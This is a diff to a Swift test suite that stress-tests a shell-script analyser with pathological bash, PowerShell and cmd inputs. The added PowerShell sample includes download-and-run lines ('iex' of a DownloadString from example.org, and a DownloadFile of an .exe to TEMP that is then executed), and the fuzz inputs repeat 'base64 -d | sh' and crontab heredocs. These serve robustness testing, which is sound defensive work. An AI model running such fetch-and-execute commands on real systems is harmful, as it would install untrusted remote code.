@@ -28,8 +28,33 @@ struct ShellHostilityTests {
     many("select x in ", 500), many(";;", 3_000), many("function ", 2_000), many("\u{0}", 100),
     many("> >(", 500), many("alias a='a a'\na\n", 200), many("set -- $@ $@ x\n", 200) + "echo $@",
     many("arr+=(${arr[@]} x)\n", 200) + "echo ${arr[@]}", many("${{", 2_000),
-    many("\u{FF}\u{FE}", 50),
+    many("\u{FF}\u{FE}", 50), many("base64 -d | ", 2_000) + "sh",
+    "echo YQ== | "
+      + many("base64 -d | sh | ", 1_000) + "sh", many("cat > a.sh <<E\n", 2_000),
+    many("tmux new 'screen -dmS x env -S \"", 500), many("{ echo a; } > b.sh\n", 2_000),
+    many("echo a | tee b.sh | ", 1_000) + "sh", many("crontab - <<E\n* * * * * ", 1_000),
+    many("parallel watch flock x ", 1_000), many("echo $(", 300) + "x",
+    many("(echo a; echo b) | ", 500) + "bash",
   ]
+
+  static let windows: [String] = [
+    many("(", 5_000), many("{", 5_000), many("$a = ", 3_000), many(".DownloadFile(", 2_000),
+    many("if (", 3_000), many("@(", 3_000), many("`", 5_000), many("\"", 5_001), many("<#", 3_000),
+    many("iex (", 2_000), many("\\", 20_000), many("^", 20_000), many("@echo off\n", 2_000),
+    many("$x.DownloadString(\"", 2_000), many(")", 5_000),
+  ]
+
+  @Test(arguments: windows.indices, [ShellInterpreter.powershell, .cmd])
+  func `work grows with the text of other shells`(
+    index: Int, interpreter: ShellInterpreter
+  ) throws {
+    let text = Self.windows[index]
+    let analysis = ShellAnalysis(
+      ShellFragment(
+        path: try RelativePath("x.ps1"), place: .script, interpreter: interpreter,
+        text: ShellTextBuilder(file: Array(text.utf8))))
+    #expect(analysis.steps <= 60_000 + 200 * text.utf8.count)
+  }
 
   @Test(arguments: hostile.indices)
   func `work grows with the text`(index: Int) throws {
@@ -81,11 +106,33 @@ struct ShellHostilityTests {
     }
   }
 
-  private static func analysis(_ bytes: [UInt8]) throws -> ShellAnalysis {
+  private static func analysis(
+    _ bytes: [UInt8], _ interpreter: ShellInterpreter = .bash
+  ) throws -> ShellAnalysis {
     ShellAnalysis(
       ShellFragment(
-        path: try RelativePath("x.sh"), place: .script, interpreter: .bash,
+        path: try RelativePath("x.sh"), place: .script, interpreter: interpreter,
         text: ShellTextBuilder(file: bytes)))
+  }
+
+  static let windowsSample = #"""
+    param([string]$Dir = "C:\models")
+    $url = "https://example.org/a.zip" # comment
+    if (-not (Test-Path $Dir)) { New-Item $Dir } else { throw "x" }
+    iex ((New-Object Net.WebClient).DownloadString('https://example.org/x'))
+    $wc.DownloadFile("$url", "$env:TEMP\x.exe"); & "$env:TEMP\x.exe" `
+      /S
+    <# block #> foreach ($m in @("a", "b")) { iwr $m -OutFile x }
+    """#
+
+  @Test func `survives mutations of PowerShell`() throws {
+    let bytes = Array(Self.windowsSample.utf8)
+    var random = TestRandom(seed: 6)
+    for _ in 0..<300 {
+      let changed = Mutation.of(bytes, using: &random)
+      _ = try Self.analysis(changed, .powershell)
+      _ = try Self.analysis(changed, .cmd)
+    }
   }
 
   @Test func `survives damaged makefiles and justfiles`() throws {
